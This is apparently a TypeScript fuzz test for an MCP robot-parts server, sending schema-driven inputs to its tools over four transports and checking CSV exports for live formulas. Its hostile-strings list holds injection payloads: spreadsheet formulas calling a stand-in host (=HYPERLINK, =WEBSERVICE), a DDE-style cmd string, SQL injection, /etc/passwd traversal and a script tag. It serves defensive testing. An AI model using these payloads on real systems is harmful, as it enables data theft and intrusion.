/**
 * The fuzzer: every tool of the registry (src/tools/index.ts TOOLS, so tools added later are
 * fuzzed too) with inputs generated from its own input schema, then mutated (wrong types,
 * extreme numbers, hostile strings, junk), over four surfaces: the in-memory MCP client, REST
 * and MCP over HTTP against the real `serve` binary, and the real stdio binary.
 *
 * Each call is classified: ok, a tool error by code, `internal` (never expected), or a crash
 * (transport failure, hang, or the server process gone). A successful answer must also match
 * the tool's output schema.
 */
import { Client } from '@modelcontextprotocol/client';
import { InMemoryTransport } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import type { CallToolResult } from '@modelcontextprotocol/client';
import path from 'node:path';
import { z } from 'zod';
import { loadConfig } from '../../src/config.js';
import { buildDeps } from '../../src/deps.js';
import { silentLogger } from '../../src/log.js';
import { createServer, ERROR_META_KEY } from '../../src/server.js';
import type { AnyTool } from '../../src/tools/define.js';
import { TOOLS } from '../../src/tools/index.js';
import { BIN, rng, startServe, Tally, tempDir } from './common.js';
import { formulaCells, hostileBomItems } from './csv.js';

type Js = {
  type?: string | string[];
  properties?: Record<string, Js>;
  required?: string[];
  items?: Js;
  enum?: unknown[];
  anyOf?: Js[];
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  default?: unknown;
};

export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000=HYPERLINK("http://x.example/?"&[.C2],"x")',
  '=WEBSERVICE("http://x.example/")',
  '\u000b=1+1',
  '\u3000=1+1',
  '\ufeff@SUM(A1)',
  '\u200b-2+3',
  '＝1+1',
  '＋cmd|x',
  "'; DROP TABLE accounts; --",
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '<script>alert(1)</script>',
  '{"$gt":""}',
  '\ud800',
  '🤖 機器人 ロボット',
  'a'.repeat(5000),
  '1e308',
  '-0',
  'NaN',
  'gtk_' + 'A'.repeat(32),
  'nobody@example.com',
  'ISO9409-1-A50-4-M6',
  'ISO 9409-1-A63-6-M6',
  '0.11 sec/60°',
  '15 kgf·cm',
  '4.1 Nm @ 12V',
  '12-bit',
  'ord_' + 'x'.repeat(22),
  '<robot name="r"><joint name="j" type="revolute"><limit effort="1e308" velocity="-1" lower="x" upper="1"/></joint></robot>',
  '| part | qty | price |\n|---|---|---|\n| =cmd | 1e9 | ¥1,000 |',
  'part,qty,price\n"=1+1",2,3\n',
];
const NUMBERS = [0, -1, 1, 2, 7, 100, 101, 1000, 1e6, 1e12, 1e15, 1e308, -1e308, 0.5, 1.5, 2 ** 53, -(2 ** 53), 5e-324];

export interface FuzzContext {
  r: () => number;
  ids: string[];
  key: string | null;
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];

function hostileString(c: FuzzContext): string {
  const x = c.r();
  if (x < 0.35 && c.ids.length) return pick(c.r, c.ids);
  if (x < 0.45 && c.ids.length) return pick(c.r, c.ids).toLowerCase() + (c.r() < 0.5 ? ' ' : '');
  return pick(c.r, HOSTILE_STRINGS);
}

function junk(c: FuzzContext, depth = 0): unknown {
  const x = c.r();
  if (x < 0.2) return pick(c.r, NUMBERS);
  if (x < 0.45) return hostileString(c);
  if (x < 0.55) return c.r() < 0.5;
  if (x < 0.62) return null;
  if (depth > 3) return 'deep';
  if (x < 0.8) return Array.from({ length: Math.floor(c.r() * 4) }, () => junk(c, depth + 1));
  return Object.fromEntries(Array.from({ length: Math.floor(c.r() * 4) }, (_, i) => [`k${i}`, junk(c, depth + 1)]));
}

/** A value for `schema`, valid-ish: mostly in shape, with hostile content. */
function generate(schema: Js, c: FuzzContext, name: string, depth = 0): unknown {
  if (schema.enum) return c.r() < 0.9 ? pick(c.r, schema.enum) : hostileString(c);
  if (schema.anyOf) return generate(pick(c.r, schema.anyOf), c, name, depth);
  const type = Array.isArray(schema.type) ? pick(c.r, schema.type) : schema.type;
  switch (type) {
    case 'string':
      if (name === 'api_key') return c.key && c.r() < 0.6 ? c.key : hostileString(c);
      if (name === 'email') return c.r() < 0.5 ? `fuzz-${Math.floor(c.r() * 1e9)}+t@Example.com` : hostileString(c);
      return hostileString(c);
    case 'integer': {
      if (c.r() < 0.7) {
        const lo = schema.minimum ?? 0;
        const hi = Math.min(schema.maximum ?? 1000, lo + 1000);
        return lo + Math.floor(c.r() * (hi - lo + 1));
      }
      return pick(c.r, NUMBERS);
    }
    case 'number':
      return c.r() < 0.5 ? Math.round(c.r() * 100000) / 100 : pick(c.r, NUMBERS);
    case 'boolean':
      return c.r() < 0.5;
    case 'null':
      return null;
    case 'array': {
      if (depth > 4) return [];
      const n = c.r() < 0.05 ? 501 : Math.max(schema.minItems ?? 0, Math.floor(c.r() * 6));
      return Array.from({ length: n }, () => generate(schema.items ?? {}, c, name, depth + 1));
    }
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(schema.properties ?? {})) {
        const required = schema.required?.includes(k) ?? false;
        if (required || c.r() < 0.5) out[k] = generate(v, c, k, depth + 1);
      }
      return out;
    }
    default:
      return junk(c, depth);
  }
}

/** One fuzzed argument object for a tool. */
export function fuzzInput(schema: Js, c: FuzzContext): Record<string, unknown> {
  const x = c.r();
  if (x < 0.08) {
    const j = junk(c);
    return (j && typeof j === 'object' && !Array.isArray(j) ? j : { value: j }) as Record<string, unknown>;
  }
  const v = generate(schema, c, 'input') as Record<string, unknown>;
  if (x < 0.35) {
    // mutate one property: wrong type, extreme, removed, or an unknown extra
    const keys = Object.keys(schema.properties ?? {});
    const k = keys.length ? pick(c.r, keys) : 'extra';
    const m = c.r();
    if (m < 0.3) delete v[k];
    else if (m < 0.8) v[k] = junk(c);
    else v[`${k}_extra`] = junk(c);
  }
  return JSON.parse(JSON.stringify(v)) as Record<string, unknown>;
}

export function inputJsonSchema(tool: AnyTool): Js {
  return z.toJSONSchema(tool.inputSchema, { io: 'input', unrepresentable: 'any' }) as Js;
}

export interface SurfaceStats {
  calls: Tally; // per surface
  codes: Tally; // tool error code -> count
  internal: { surface: string; tool: string; detail: string }[];
  crashes: { surface: string; tool: string; detail: string }[];
  schemaViolations: { surface: string; tool: string; detail: string }[];
  /** CSV read-back: exports parsed, text cells checked, cells a spreadsheet would evaluate. */
  csv: { exports: number; cells: number; formulas: string[]; failures: string[] };
}

export function newStats(): SurfaceStats {
  return { calls: new Tally(), codes: new Tally(), internal: [], crashes: [], schemaViolations: [], csv: { exports: 0, cells: 0, formulas: [], failures: [] } };
}

/** One hostile BOM exported as CSV over MCP, read back and checked. */
async function csvOverMcp(client: Client, surface: string, stats: SurfaceStats): Promise<void> {
  const key = await register(client, `csv-${surface}@example.com`);
  const r = (await client.callTool({ name: 'export_bom', arguments: { api_key: key, items: hostileBomItems(), currency: 'CNY' } })) as CallToolResult;
  if (r.isError) {
    stats.csv.failures.push(`${surface}: ${JSON.stringify(r.content).slice(0, 200)}`);
    return;
  }
  const out = r.structuredContent as { csv: string | null; document_uri: string | null };
  // A large export links its whole CSV (issue 40): read it back page by page, as a client would.
  let csv = out.csv;
  if (csv === null && out.document_uri) {
    const pages: string[] = [];
    for (let next: string | null = out.document_uri; next !== null; ) {
      const read = await client.readResource({ uri: next });
      const c = read.contents[0] as { text?: string; _meta?: Record<string, { next_uri: string | null }> };
      pages.push(c.text ?? '');
      next = c._meta?.['robotparts/page']?.next_uri ?? null;
    }
    csv = pages.join('');
  }
  if (csv === null) {
    stats.csv.failures.push(`${surface}: export_bom answered neither csv nor document_uri`);
    return;
  }
  checkCsv(csv, surface, stats);
}

function checkCsv(csv: string, surface: string, stats: SurfaceStats): void {
  const { cells, formulas } = formulaCells(csv);
  stats.csv.exports++;
  stats.csv.cells += cells;
  stats.csv.formulas.push(...formulas.map((f) => `${surface}: ${f}`));
}

function withTimeout<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  return new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`timeout after ${ms} ms: ${what}`)), ms);
    p.then(
      (v) => {
        clearTimeout(t);
        resolve(v);
      },
      (e: unknown) => {
        clearTimeout(t);
        reject(e instanceof Error ? e : new Error(String(e)));
      },
    );
  });
}

const short = (x: unknown) => JSON.stringify(x)?.slice(0, 300) ?? String(x);

/** Classifies one MCP tools/call outcome. */
async function mcpCall(client: Client, surface: string, tool: AnyTool, args: Record<string, unknown>, stats: SurfaceStats): Promise<void> {
  stats.calls.add(surface);
  try {
    const r = (await withTimeout(client.callTool({ name: tool.name, arguments: args }), 60_000, tool.name)) as CallToolResult;
    if (r.isError) {
      const code = String((r._meta?.[ERROR_META_KEY] as { code?: string } | undefined)?.code ?? 'no_code');
      stats.codes.add(code);
      if (code === 'internal') stats.internal.push({ surface, tool: tool.name, detail: short(args) });
      return;
    }
    stats.codes.add('ok');
    const check = tool.outputSchema.safeParse(r.structuredContent);
    if (!check.success) stats.schemaViolations.push({ surface, tool: tool.name, detail: `${check.error.issues[0]?.path.join('.')}: ${check.error.issues[0]?.message} for ${short(args)}` });
  } catch (err) {
    const e = err as { code?: number; message?: string };
    if (e.code === -32603) {
      stats.codes.add('internal');
      stats.internal.push({ surface, tool: tool.name, detail: `JSON-RPC internal error ${e.message} for ${short(args)}` });
      return;
    }
    if (e.code === -32600 || e.code === -32601 || e.code === -32602 || e.code === -32700) {
      stats.codes.add(`jsonrpc ${e.code}`);
      return;
    }
    stats.crashes.push({ surface, tool: tool.name, detail: `${e.message} for ${short(args)}` });
  }
}

function restUrl(base: string, route: { method: string; path: string }, input: Record<string, unknown>): { url: string; body?: string } {
  let p = route.path;
  const rest = { ...input };
  p = p.replace(/:([a-z_]+)/g, (_, name: string) => {
    const v = rest[name];
    delete rest[name];
    // lone surrogates cannot be percent-encoded: replace them as a browser would
    return encodeURIComponent((typeof v === 'string' ? v : String(v ?? 'x')).replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));
  });
  if (route.method === 'GET') {
    const q = new URLSearchParams();
    for (const [k, v] of Object.entries(rest)) {
      if (Array.isArray(v)) for (const x of v) q.append(k, typeof x === 'string' ? x : JSON.stringify(x));
      else q.append(k, typeof v === 'string' ? v : JSON.stringify(v));
    }
    const qs = q.toString();
    return { url: `${base}${p}${qs ? `?${qs}` : ''}` };
  }
  return { url: `${base}${p}`, body: JSON.stringify(rest) };
}

async function restCall(base: string, tool: AnyTool, args: Record<string, unknown>, c: FuzzContext, stats: SurfaceStats): Promise<void> {
  const route = pick(c.r, tool.rest);
  const { url, body } = restUrl(base, route, args);
  stats.calls.add('http-rest');
  try {
    const res = await withTimeout(
      fetch(url, { method: route.method, headers: body ? { 'content-type': 'application/json' } : {}, body }),
      60_000,
      tool.name,
    );
    const text = await res.text();
    if (res.status >= 500 && res.status !== 503) {
      stats.internal.push({ surface: 'http-rest', tool: tool.name, detail: `${res.status} ${text.slice(0, 200)} for ${url.slice(0, 200)}` });
      stats.codes.add('internal');
      return;
    }
    if (res.status >= 400) {
      let code = `http ${res.status}`;
      try {
        code = String((JSON.parse(text) as { code?: string }).code ?? code);
      } catch {
        /* non-JSON error body */
      }
      stats.codes.add(code);
      if (code === 'internal') stats.internal.push({ surface: 'http-rest', tool: tool.name, detail: text.slice(0, 200) });
      return;
    }
    stats.codes.add('ok');
    if (!route.render && res.headers.get('content-type')?.includes('json')) {
      const check = tool.outputSchema.safeParse(JSON.parse(text));
      if (!check.success) stats.schemaViolations.push({ surface: 'http-rest', tool: tool.name, detail: `${check.error.issues[0]?.path.join('.')}: ${check.error.issues[0]?.message}` });
    }
  } catch (err) {
    stats.crashes.push({ surface: 'http-rest', tool: tool.name, detail: `${(err as Error).message} for ${url.slice(0, 200)}` });
  }
}

async function register(client: Client, email: string): Promise<string | null> {
  const r = (await client.callTool({ name: 'register_key', arguments: { email } })) as CallToolResult;
  return r.isError ? null : ((r.structuredContent as { api_key: string }).api_key ?? null);
}

export interface FuzzOptions {
  perTool: number;
  seed: number;
  deadline: number;
  tools?: readonly AnyTool[];
}

/** Runs the fuzzer over the four surfaces (in parallel); returns the tallies. */
export async function runFuzz(opts: FuzzOptions): Promise<SurfaceStats> {
  const tools = opts.tools ?? TOOLS;
  const stats = newStats();
  const tmp = tempDir('fuzz');
  const schemas = new Map(tools.map((t) => [t.name, inputJsonSchema(t)]));
  // Ids from the shipped catalogue, so many calls reach the handlers' real paths.
  const config = loadConfig({}, { dbPath: path.join(tmp.dir, 'memory-surface.db'), port: 0, logLevel: 'error', rateLimitFree: 0, rateLimitPaid: 0 });
  const deps = buildDeps(config, { log: silentLogger });
  await deps.ready;
  const ids = [...(await deps.catalogue.idsWithPrefix('', 60)), ...(await deps.catalogue.idsWithPrefix('OSS-LIVE', 5))];

  const loop = async (surface: string, seedOffset: number, call: (tool: AnyTool, args: Record<string, unknown>, c: FuzzContext) => Promise<void>, key: string | null, alive: () => boolean) => {
    const c: FuzzContext = { r: rng(opts.seed + seedOffset), ids, key };
    for (let i = 0; i < opts.perTool && Date.now() < opts.deadline; i++) {
      for (const tool of tools) {
        if (!alive()) {
          stats.crashes.push({ surface, tool: tool.name, detail: 'server process exited' });
          return;
        }
        await call(tool, fuzzInput(schemas.get(tool.name)!, c), c);
      }
    }
  };

  // in-memory MCP
  const memory = async () => {
    const server = createServer(deps, { surface: 'mcp-memory' });
    const [a, b] = InMemoryTransport.createLinkedPair();
    await server.connect(a);
    const client = new Client({ name: 'attack-memory', version: '1' });
    await client.connect(b);
    const key = await register(client, 'fuzz-memory@example.com');
    await loop('mcp-memory', 1, (tool, args) => mcpCall(client, 'mcp-memory', tool, args, stats), key, () => true);
    await csvOverMcp(client, 'mcp-memory', stats);
    await client.close();
    await server.close();
  };

  // HTTP: REST and MCP against the real binary
  const httpSurfaces = async () => {
    const srv = await startServe(path.join(tmp.dir, 'http.db'), ['--rate-limit-free', '0', '--rate-limit-paid', '0']);
    try {
      const transport = new StreamableHTTPClientTransport(new URL(`${srv.url}/mcp`));
      const client = new Client({ name: 'attack-http', version: '1' });
      await client.connect(transport);
      const key = await register(client, 'fuzz-http@example.com');
      await Promise.all([
        loop('mcp-http', 2, (tool, args) => mcpCall(client, 'mcp-http', tool, args, stats), key, () => !srv.exited()),
        loop('http-rest', 3, (tool, args, c) => restCall(srv.url, tool, args, c, stats), key, () => !srv.exited()),
      ]);
      await csvOverMcp(client, 'mcp-http', stats);
      const csvKey = await register(client, 'csv-rest@example.com');
      const res = await fetch(`${srv.url}/api/bom/export`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${csvKey}` },
        body: JSON.stringify({ items: hostileBomItems(), currency: 'CNY' }),
      });
      if (res.status === 200) checkCsv(await res.text(), 'http-rest', stats);
      else stats.csv.failures.push(`http-rest: ${res.status} ${(await res.text()).slice(0, 200)}`);
      await client.close().catch(() => {});
      const errorLines = srv.logs.filter((l) => l.includes('"level":"error"'));
      for (const l of errorLines) stats.internal.push({ surface: 'http (server log)', tool: '-', detail: l.slice(0, 300) });
    } finally {
      await srv.stop();
    }
  };

  // stdio: the real binary
  const stdio = async () => {
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [BIN, '--db', path.join(tmp.dir, 'stdio.db')],
      stderr: 'pipe',
      env: { ...process.env, ROBOT_PARTS_LOG_LEVEL: 'warn' } as Record<string, string>,
    });
    let exited = false;
    let stderr = '';
    transport.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
    transport.onclose = () => (exited = true);
    const client = new Client({ name: 'attack-stdio', version: '1' });
    await client.connect(transport);
    const key = await register(client, 'fuzz-stdio@example.com');
    await loop('mcp-stdio', 4, (tool, args) => mcpCall(client, 'mcp-stdio', tool, args, stats), key, () => !exited);
    await csvOverMcp(client, 'mcp-stdio', stats);
    await client.close();
    for (const l of stderr.split('\n').filter((x) => x.includes('"level":"error"'))) stats.internal.push({ surface: 'stdio (server log)', tool: '-', detail: l.slice(0, 300) });
  };

  try {
    await Promise.all([memory(), httpSurfaces(), stdio()]);
  } finally {
    deps.close();
    tmp.cleanup();
  }
  return stats;
}
